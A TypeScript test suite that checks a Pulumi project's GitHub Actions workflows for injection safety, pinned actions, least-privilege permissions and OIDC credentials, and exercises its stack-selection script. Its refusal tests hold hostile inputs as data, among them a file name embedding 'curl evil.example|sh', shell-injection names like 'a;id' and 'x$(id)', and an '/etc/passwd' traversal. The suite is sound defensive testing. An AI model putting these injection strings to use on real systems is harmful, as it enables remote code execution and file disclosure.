/**
 * The GitHub workflows, checked statically (parsed YAML) and by running their stack-selection script on
 * sample diffs. The rules: nothing from file names or pull-request content is expanded inside a shell
 * script (GitHub's script-injection guidance: pass `${{ }}` values through `env:`); stack names are
 * validated before use; actions are pinned by commit; permissions are least privilege; the CLI version
 * is pinned; production stacks get the production policy configuration at preview and at `pulumi up`.
 */
import * as assert from "assert";
import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse } from "yaml";
import { SHARED_PATHS } from "../deployments/settings";

const ROOT = path.join(__dirname, "..");
const WORKFLOWS = path.join(ROOT, ".github", "workflows");
const SCRIPT = path.join(ROOT, ".github", "scripts", "stacks.js");
const script = require(SCRIPT) as {
    affectedStacks(files: string[], root?: string): string[];
    policyConfig(stack: string, root?: string): string;
    isStackName(name: string): boolean;
    SHARED_PATHS: string[];
};

interface Step { name?: string; id?: string; uses?: string; run?: string; with?: Record<string, unknown>; env?: Record<string, string> }
interface Job { permissions?: Record<string, string>; steps: Step[]; strategy?: any; concurrency?: any; needs?: string; if?: string; "runs-on": string }
interface Workflow { on: any; permissions?: unknown; env?: Record<string, string>; jobs: Record<string, Job> }

const names = fs.readdirSync(WORKFLOWS).filter((f) => /\.ya?ml$/.test(f)).sort();
const text = (file: string) => fs.readFileSync(path.join(WORKFLOWS, file), "utf8");
const workflow = (file: string) => parse(text(file)) as Workflow;
const steps = (wf: Workflow) => Object.values(wf.jobs).flatMap((job) => job.steps);
const stepUsing = (job: Job, action: string) => job.steps.find((s) => s.uses?.startsWith(`${action}@`));

function stacksCli(args: string[], input = ""): { status: number | null; stdout: string; stderr: string } {
    const result = spawnSync(process.execPath, [SCRIPT, ...args], { cwd: ROOT, input, encoding: "utf8" });
    return { status: result.status, stdout: result.stdout.trim(), stderr: result.stderr.trim() };
}

describe("GitHub workflows: safe by construction", () => {
    it("are the three expected workflows", () => {
        assert.deepStrictEqual(names, ["apply.yml", "drift.yml", "preview.yml"]);
    });

    for (const file of names) {
        describe(file, () => {
            it("expands no ${{ }} expression inside a run: script (values come through env:)", () => {
                for (const step of steps(workflow(file))) {
                    if (step.run !== undefined) {
                        assert.ok(!step.run.includes("${{"), `${file}: ${step.name ?? step.run.split("\n")[0]} expands an expression in a shell script`);
                    }
                }
            });

            it("pins every action to a full commit SHA, with the release it is in a comment", () => {
                for (const step of steps(workflow(file)).filter((s) => s.uses)) {
                    assert.match(step.uses!, /^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/, `${file}: ${step.uses} is not pinned to a commit`);
                    assert.match(text(file), new RegExp(`uses: ${step.uses!.replace(/[/.]/g, "\\$&")} # v\\d+\\.\\d+\\.\\d+`), `${file}: ${step.uses} has no release comment`);
                }
            });

            it("grants no permission by default and only what each job needs", () => {
                const wf = workflow(file);
                assert.deepStrictEqual(wf.permissions, {}, "top-level permissions: {}");
                for (const [name, job] of Object.entries(wf.jobs)) {
                    assert.ok(job.permissions, `${file}: job ${name} declares its permissions`);
                    assert.strictEqual(job.permissions!.contents, "read");
                    const writes = Object.entries(job.permissions!).filter(([, v]) => v === "write").map(([k]) => k).sort();
                    const expected = [
                        ...(stepUsing(job, "pulumi/auth-actions") ? ["id-token"] : []),
                        ...(job.steps.some((s) => s.with?.["comment-on-pr"] === true) ? ["pull-requests"] : []),
                    ].sort();
                    assert.deepStrictEqual(writes, expected, `${file}: job ${name} writes only what it needs`);
                }
            });

            it("runs on the Node LTS of .nvmrc, and never persists the checkout's token", () => {
                assert.match(fs.readFileSync(path.join(ROOT, ".nvmrc"), "utf8").trim(), /^22$/);
                for (const job of Object.values(workflow(file).jobs)) {
                    assert.deepStrictEqual(stepUsing(job, "actions/setup-node")?.with?.["node-version-file"], ".nvmrc");
                    assert.strictEqual(stepUsing(job, "actions/checkout")?.with?.["persist-credentials"], false);
                }
            });

            it("installs a pinned Pulumi CLI (the SDK's version) through pulumi/actions, not an install script", () => {
                const wf = workflow(file);
                const sdk = JSON.parse(fs.readFileSync(path.join(ROOT, "package.json"), "utf8")).dependencies["@pulumi/pulumi"];
                assert.strictEqual(wf.env?.PULUMI_VERSION, sdk);
                assert.ok(!/get\.pulumi\.com|curl /.test(text(file)), "no unpinned install script");
                const pulumiSteps = steps(wf).filter((s) => s.uses?.startsWith("pulumi/actions@"));
                assert.ok(pulumiSteps.length > 0);
                for (const step of pulumiSteps) {
                    assert.strictEqual(step.with?.["pulumi-version"], "${{ env.PULUMI_VERSION }}");
                }
                // Credentials: GitHub OIDC exchanged for a short-lived Pulumi token, no long-lived secret.
                assert.ok(!text(file).includes("PULUMI_ACCESS_TOKEN"));
                for (const job of Object.values(wf.jobs).filter((j) => j.steps.some((s) => s.uses?.startsWith("pulumi/actions@")))) {
                    const auth = stepUsing(job, "pulumi/auth-actions");
                    assert.ok(auth, "authenticates with OIDC");
                    assert.strictEqual(auth!.with?.["requested-token-type"], "urn:pulumi:token-type:access_token:organization");
                    assert.ok(job.steps.indexOf(auth!) < job.steps.findIndex((s) => s.uses?.startsWith("pulumi/actions@")));
                }
            });
        });
    }

    for (const [file, command, base] of [["preview.yml", "preview", "${{ github.event.pull_request.base.sha }}"], ["apply.yml", "up", "${{ github.event.before }}"]] as const) {
        it(`${file}: ${command} only the affected stacks, validated, with the environment's policy configuration`, () => {
            const wf = workflow(file);
            const list = wf.jobs.stacks.steps.find((s) => s.id === "list")!;
            assert.strictEqual(list.env?.BASE, base, "diffs against the real base");
            assert.match(list.run!, /node \.github\/scripts\/stacks\.js affected --base "\$BASE" --head "\$HEAD"/);
            assert.strictEqual(stepUsing(wf.jobs.stacks, "actions/checkout")!.with!["fetch-depth"], 0, "the base commit is fetched");
            const job = Object.values(wf.jobs).find((j) => j.strategy?.matrix?.stack)!;
            assert.strictEqual(job.strategy.matrix.stack, "${{ fromJson(needs.stacks.outputs.stacks) }}");
            const check = job.steps.find((s) => s.id === "stack")!;
            assert.strictEqual(check.env?.STACK, "${{ matrix.stack }}");
            assert.match(check.run!, /stacks\.js check "\$STACK"/);
            assert.match(check.run!, /stacks\.js policy-config "\$STACK"/);
            const pulumiStep = stepUsing(job, "pulumi/actions")!;
            assert.strictEqual(pulumiStep.with!.command, command);
            assert.strictEqual(pulumiStep.with!.policyPacks, "policies");
            assert.strictEqual(pulumiStep.with!.policyPackConfigs, "${{ steps.stack.outputs.policy-config }}");
            assert.ok(job.steps.findIndex((s) => s.run === "npm run build") < job.steps.indexOf(pulumiStep), "builds dist/ before Pulumi runs it");
            // The workflow runs when any file the script counts as shared changes.
            const paths: string[] = wf.on[file === "preview.yml" ? "pull_request" : "push"].paths;
            for (const shared of ["stacks/**", ...SHARED_PATHS]) {
                assert.ok(paths.includes(shared), `${file}: paths lacks ${shared}`);
            }
        });
    }

    it("preview.yml comments the preview on the pull request", () => {
        const job = workflow("preview.yml").jobs.preview;
        assert.strictEqual(stepUsing(job, "pulumi/actions")!.with!["comment-on-pr"], true);
    });

    it("apply.yml runs one update per stack at a time", () => {
        assert.strictEqual(workflow("apply.yml").jobs.up.concurrency.group, "stack-${{ matrix.stack }}");
        assert.strictEqual(workflow("apply.yml").jobs.up.concurrency["cancel-in-progress"], false);
    });
});

describe("GitHub workflows: the stack-selection script", () => {
    const all = fs.readdirSync(path.join(ROOT, "stacks")).map((f) => /^Pulumi\.(.+)\.yaml$/.exec(f)?.[1]).filter(Boolean).sort();

    it("shares its list of program files with the Deployments project", () => {
        assert.deepStrictEqual(script.SHARED_PATHS, SHARED_PATHS);
    });

    for (const [diff, expected] of [
        [["stacks/Pulumi.prod-vsphere.yaml"], ["prod-vsphere"]],
        [["stacks/Pulumi.prod-vsphere.yaml", "stacks/Pulumi.dev-openstack.yaml", "README.md"], ["dev-openstack", "prod-vsphere"]],
        [["README.md", "bench/run.ts", "test/bench.test.ts", ".github/workflows/preview.yml"], []],
        [["components/kubespray/index.ts"], "all"],
        [["stacks/Pulumi.prod-vsphere.yaml", "package-lock.json"], "all"],
        [["tsconfig.build.json"], "all"],
        [["stacks/Pulumi.removed-stack.yaml"], []],
        [[], []],
    ] as const) {
        it(`${JSON.stringify(diff)} → ${JSON.stringify(expected)}`, () => {
            const result = stacksCli(["affected", "--files-from", "-"], diff.join("\n") + "\n");
            assert.strictEqual(result.status, 0, result.stderr);
            assert.deepStrictEqual(JSON.parse(result.stdout), expected === "all" ? all : expected);
        });
    }

    for (const file of ["stacks/Pulumi.$(curl evil.example|sh).yaml", "stacks/Pulumi.a;id.yaml", "stacks/Pulumi..hidden.yaml", "stacks/Pulumi.a b.yaml", "stacks/Pulumi.`id`.yaml"]) {
        it(`refuses a stack file named ${JSON.stringify(file)}`, () => {
            const result = stacksCli(["affected", "--files-from", "-"], `${file}\n`);
            assert.strictEqual(result.status, 2);
            assert.match(result.stderr, /is not a stack name: use letters, digits, '_', '\.' and '-', not starting with '\.'/);
            assert.strictEqual(result.stdout, "");
        });
    }

    it("checks names before use: valid names with a file pass, anything else exits 2", () => {
        assert.strictEqual(stacksCli(["check", "prod-vsphere"]).status, 0);
        for (const name of ["../../etc/passwd", "-rf", ".hidden", "a/b", "x$(id)", "", "nope"]) {
            const result = stacksCli(["check", name]);
            assert.strictEqual(result.status, 2, name);
        }
        assert.ok(script.isStackName("Prod_1.eu-west") && !script.isStackName(".x") && !script.isStackName("a/b"));
    });

    it("chooses the policy configuration from meta.environment parsed as YAML, however it is written", () => {
        assert.strictEqual(stacksCli(["policy-config", "prod-vsphere"]).stdout, "policies/config/production.json");
        assert.strictEqual(stacksCli(["policy-config", "enclave-harvester"]).stdout, "policies/config/production.json");
        assert.strictEqual(stacksCli(["policy-config", "dev-openstack"]).stdout, "policies/config/dev.json");
        assert.strictEqual(stacksCli(["policy-config", "edge-existing"]).stdout, "policies/config/dev.json");
        const root = fs.mkdtempSync(path.join(os.tmpdir(), "stacks-script-"));
        try {
            fs.mkdirSync(path.join(root, "stacks"));
            const write = (name: string, body: string) => fs.writeFileSync(path.join(root, "stacks", `Pulumi.${name}.yaml`), body);
            write("quoted", 'config:\n  clusters:meta:\n    name: q\n    environment: "production"\n');
            write("flow", "config:\n  clusters:meta: {name: f, environment: 'production'}\n");
            write("comment", "# environment: production\nconfig:\n  clusters:meta:\n    environment: dev # not production\n");
            write("missing", "config:\n  clusters:meta:\n    name: m\n");
            assert.strictEqual(script.policyConfig("quoted", root), "policies/config/production.json");
            assert.strictEqual(script.policyConfig("flow", root), "policies/config/production.json");
            assert.strictEqual(script.policyConfig("comment", root), "policies/config/dev.json");
            assert.throws(() => script.policyConfig("missing", root), /clusters:meta\.environment is undefined; allowed: dev, staging, production/);
        } finally {
            fs.rmSync(root, { recursive: true, force: true });
        }
    });

    it("takes every stack when the push's base is unknown (a new branch or a force push), none when nothing changed", function () {
        let head: string;
        try {
            head = execFileSync("git", ["rev-parse", "HEAD"], { cwd: ROOT, encoding: "utf8" }).trim();
        } catch {
            this.skip(); // not a git checkout (a source archive): the diff cannot be taken here
            return;
        }
        const run = (b: string) => JSON.parse(stacksCli(["affected", "--base", b, "--head", head]).stdout);
        assert.deepStrictEqual(run("0000000000000000000000000000000000000000"), all);
        assert.deepStrictEqual(run("f".repeat(40)), all, "a base that is not in the clone");
        assert.deepStrictEqual(run(head), []);
        assert.strictEqual(stacksCli(["affected", "--base", head, "--head", "$(id)"]).status, 2);
    });
});
